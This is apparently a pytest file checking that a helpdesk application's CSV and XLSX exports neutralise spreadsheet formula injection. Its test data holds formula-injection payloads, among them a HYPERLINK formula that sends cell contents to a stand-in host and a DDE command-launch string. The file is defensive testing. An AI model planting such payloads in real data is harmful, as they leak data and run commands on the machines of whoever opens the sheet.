"""T15: a customer who is called =HYPERLINK(...) runs in the spreadsheet of whoever opens the export.

CSV and XLSX injection was found in the exports of Zammad, osTicket, SuiteCRM and dozens more (CWE-1236): a name from a web
form or the subject of a letter becomes a formula that sends the sheet's other cells away. Forty such texts go into every text
column of every export, in both formats; what a spreadsheet would read is counted with openpyxl and with the csv module.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from app.exporting import exported_to
from documents.sheets import Cell, read_table, write_table
from rules.cells import LONGEST, STARTS_FORMULA, cell_text, csv_text, read_back
from storage.exports import EXPORTS
from storage.tables.colleagues import ColleagueAddressRow, ColleagueRow
from storage.tables.conversations import ConversationRow
from storage.tables.customers import ContactAddressRow, ContactRow, CustomerRow
from storage.tables.letters import LetterRow
from tests.dialogues.desk import Desk
from tests.experiments import Seen

AT = datetime(2026, 3, 2, 1, 0, tzinfo=UTC)
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\t", "\r", " =", "  +", "\u00a0=", "\u3000@", "=", "+", "-", "@"]
BODIES = ["1+1", 'HYPERLINK("http://x.example?"&A1,"click")', "cmd|' /C calc'!A0"]
PLAIN = [
    "http://x.example/a",
    "mailto:a@x.example",
    "www.x.example",
    "{=1+1}",
    "internal:Sheet1!A1",
    "external:c:\\x",
    "_x003D_1+1",
]
ATTACKS = [f"{start}{BODIES[number % 3]}" for number, start in enumerate(STARTS * 2)][:33] + PLAIN
TEXTS = ["ordinary", "José Müller 山田 🚢", "שלום עולם", "a\nb", "'quoted", "-", "007", "1e5", "TRUE", "", "a" * 200]


def test_there_are_forty_of_them() -> None:
    assert len(ATTACKS) == 40


def formulas_in_xlsx(file: Path) -> tuple[int, int, list[list[object]]]:
    """How many cells compute, how many links lead away, and all values."""
    book = openpyxl.load_workbook(file)
    sheet = book.worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    computed = sum(each.data_type == "f" for each in cells)
    links = sum(each.hyperlink is not None for each in cells)
    with zipfile.ZipFile(file) as archive:
        raw = archive.read("xl/worksheets/sheet1.xml")
        links += any("hyperlink" in each.casefold() or "externalLink" in each for each in archive.namelist())
    computed += raw.count(b"<f>") + raw.count(b"<f ")
    return computed, links, [[each.value for each in row] for row in sheet.iter_rows()]


def formulas_in_csv(file: Path) -> tuple[int, list[list[str]]]:
    rows = list(csv.reader(io.StringIO(file.read_bytes().decode("utf-8-sig"), newline="")))
    return sum(cell.lstrip(" \u00a0\u3000")[:1] in STARTS_FORMULA and cell != "" for row in rows for cell in row), rows


@pytest.mark.experiment("T15", "40 formulas and links in a column, both formats", "0 of 40 computed or linked")
def test_no_text_computes(tmp_path: Path, seen: Seen) -> None:
    rows: list[list[Cell]] = [[number, text, text] for number, text in enumerate(ATTACKS)]
    for form in ("xlsx", "csv"):
        write_table(tmp_path / f"t.{form}", form, ["=mark()"], ["number", "one", "=two"], rows, "UTC", AT)
    computed, links, values = formulas_in_xlsx(tmp_path / "t.xlsx")
    in_csv, lines = formulas_in_csv(tmp_path / "t.csv")
    assert (computed, links, in_csv) == (0, 0, 0)
    said = [str(each[1]).replace("_x005F_", "_").replace("\r\n", "\n").replace("\r", "\n") for each in values[2:]]
    assert said == [each.replace("\r", "\n") for each in ATTACKS], "whole, as it was written"
    assert [read_back(each[1]) for each in lines[2:]] == ATTACKS
    seen(f"xlsx {computed} formulas, {links} links; csv {in_csv}; of {len(ATTACKS)}")


@pytest.fixture
def hostile(empty_desk: Desk) -> Desk:
    """Every text column of every table that is exported holds a formula."""
    with empty_desk.database.deciding() as session:
        for number, text in enumerate(ATTACKS):
            person = ColleagueRow(name=f"{text}{number}", roles=["viewer"], language="en", zone="UTC", joined_at=AT)
            session.add(person)
            session.flush()
            session.add(ColleagueAddressRow(address=f"{text}{number}@x.example", colleague_id=person.id, since=AT))
            fields = dict.fromkeys(
                ("name", "folded", "country", "language", "postal", "phone", "fax", "website", "business", "needs",
                 "preferences", "credit", "nature", "grade", "source"), text)  # fmt: skip
            row = CustomerRow(**fields, owner_id=person.id, first_contact_at=AT, entered_at=AT)
            session.add(row)
            session.flush()
            contact = ContactRow(customer_id=row.id, name=text, since=AT)
            session.add(contact)
            session.flush()
            session.add(
                ContactAddressRow(address=f"{text}{number}", contact_id=contact.id, customer_id=row.id, since=AT)
            )
            words = dict.fromkeys(
                ("kind", "state", "channel", "subject", "contact_name", "contact_address", "company"), text
            )
            session.add(
                ConversationRow(
                    **words,
                    country=text,
                    phone=text,
                    customer_id=row.id,
                    owner_id=person.id,
                    opened_at=AT,
                    entered_at=AT,
                    touched_at=AT,
                    wants=[[text, text, text]],
                    missing=[text],
                )  # fmt: skip
            )
            session.add(
                LetterRow(
                    sha256=f"{number:064d}",
                    size=1,
                    role=text,
                    account=text,
                    arrived_at=AT,
                    kept_at=AT,
                    state=text,
                    sender=text,
                    sender_name=text,
                    subject=text,
                    kind=text,
                )  # fmt: skip
            )
        session.commit()
    return empty_desk


@pytest.mark.experiment("T15", "the same in every text column of every export", "0 of 40 in each column")
def test_no_export_computes(hostile: Desk, tmp_path: Path, seen: Seen) -> None:
    columns = 0
    for what in EXPORTS:
        for form in ("xlsx", "csv"):
            file = tmp_path / f"{what}.{form}"
            _, rows = exported_to(hostile.database, hostile.blobs.folder, what, file, AT)
            assert rows == len(ATTACKS)
            if form == "xlsx":
                computed, links, values = formulas_in_xlsx(file)
                assert (computed, links) == (0, 0), what
                columns += sum(isinstance(each, str) for each in values[3])
            else:
                assert formulas_in_csv(file)[0] == 0, what
    seen(f"0 formulas, 0 links in {columns} text columns, both formats")


@pytest.mark.parametrize("text", TEXTS)
def test_ordinary_text_stays_as_it_is(tmp_path: Path, text: str) -> None:
    for form in ("xlsx", "csv"):
        write_table(tmp_path / f"t.{form}", form, [], ["one", "two"], [["x", text]], "UTC", AT)
        (_, row) = read_table(tmp_path / f"t.{form}", form)
        assert (read_back(row[1]) if form == "csv" else row[1] if len(row) > 1 else "") == text


@pytest.mark.experiment(
    "T15", "cells of 100,000 characters, emoji, RTL, control characters", "whole, or cut with a word"
)
def test_what_is_too_long_is_cut_and_says_so(tmp_path: Path, seen: Seen) -> None:
    long = [
        "x" * LONGEST,
        "x" * (LONGEST + 1),
        "🚢" * 50_000,
        "=" + "x" * 100_000,
        "a\x00b\x1bc\ud800d\ufffee",
        "\u202eabc\u202c",
    ]
    for form in ("xlsx", "csv"):
        write_table(tmp_path / f"t.{form}", form, [], ["text"], [[each] for each in long], "UTC", AT)
        read = [each[0] for each in read_table(tmp_path / f"t.{form}", form)][1:]
        assert all(len(each.encode("utf-16-le")) // 2 <= LONGEST for each in read)
        assert read[0] == long[0]
        for place in (1, 2, 3):
            assert f"[{len(long[place])} characters in all]" in read[place]
        assert read[2].rstrip("]").startswith("🚢")
        assert read[4] == "a\ufffdb\ufffdc\ufffdd\ufffde"
        assert read[5] == long[5]
    seen("3 cut with their length, 3 whole")


def test_an_apostrophe_does_not_push_a_full_cell_over_its_limit() -> None:
    full = "=" + "x" * (LONGEST - 1)
    assert len(csv_text(full)) <= LONGEST
    assert cell_text(full) == full
